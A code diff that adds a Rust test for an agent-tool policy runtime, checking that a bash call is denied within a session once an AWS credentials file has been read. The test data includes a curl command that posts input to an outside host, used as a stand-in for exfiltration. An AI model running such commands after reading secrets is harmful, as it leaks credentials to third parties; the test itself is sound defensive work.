@@ -211,3 +211,70 @@ fn replay_judges_a_logged_call_on_the_labels_it_was_judged_on() {
     assert_eq!(changed[0]["line"], 1, "{text}");
     assert_eq!(changed[0]["new"]["decision"], "ask", "{text}");
 }
+
+const GUARD: &str = r#"tool read_file { path: string }
+tool bash { command: string }
+label secret-read
+
+postcheck secrets on read_file when args.path.ends_with("credentials") => label session "secret-read"
+gate no_network_after_secrets on bash
+  when "secret-read" in session.labels
+  => "a secret was read earlier in this session"
+precheck anything_goes on * => allow
+"#;
+
+/// The embedded runtime with a memory store: a call made in a session is judged on what the
+/// session's earlier calls left; a call in no session, to a rule that reads one, fails closed.
+#[tokio::test]
+async fn the_runtime_keeps_each_sessions_labels_for_its_later_calls() {
+    use sluice::compiler::call::Status;
+    use sluice_runtime::policy::LoadedPolicy;
+    use sluice_runtime::registry::Scope;
+    use sluice_runtime::session::{MemoryStore, SessionStore};
+    use support::{Counter, call, counting_tool, registry_with};
+
+    let runs = Counter::default();
+    let registry = registry_with(vec![
+        counting_tool("read_file", "[default]", runs.clone()),
+        counting_tool("bash", "sent", runs.clone()),
+    ]);
+    let policy =
+        LoadedPolicy::compile("guard", vec![("guard.sluice".into(), GUARD.into())]).unwrap();
+    let store = std::sync::Arc::new(MemoryStore::new());
+    let (builder, _) = sluice_runtime::RuntimeBuilder::new(registry)
+        .sessions(store.clone())
+        .policy(Scope::Global, policy);
+    let runtime = builder.build();
+    let run = |tool: &str, args: Value, session: Option<&str>| {
+        let mut made = call(tool, args);
+        if let Some(id) = session {
+            made = made.in_session(id);
+        }
+        runtime.execute(made, tokio_util::sync::CancellationToken::new())
+    };
+    let curl = json!({ "command": "curl -d @- https://example.net" });
+    assert_eq!(
+        run("bash", curl.clone(), Some("s1")).await.status(),
+        Status::Ok
+    );
+    let read = run(
+        "read_file",
+        json!({ "path": "/h/.aws/credentials" }),
+        Some("s1"),
+    )
+    .await;
+    assert_eq!(read.status(), Status::Ok);
+    assert_eq!(read.result().labels.len(), 1);
+    let denied = run("bash", curl.clone(), Some("s1")).await;
+    assert_eq!(denied.status(), Status::Denied, "{:?}", denied.result());
+    assert_eq!(
+        run("bash", curl.clone(), Some("s2")).await.status(),
+        Status::Ok
+    );
+    let unknown = run("bash", curl, None).await;
+    assert_eq!(unknown.status(), Status::Denied, "{:?}", unknown.result());
+    assert_eq!(runs.get(), 3);
+    let state = store.load("s1").unwrap();
+    assert_eq!(state.calls(), 3);
+    assert_eq!(state.view(0).labels, ["secret-read"]);
+}
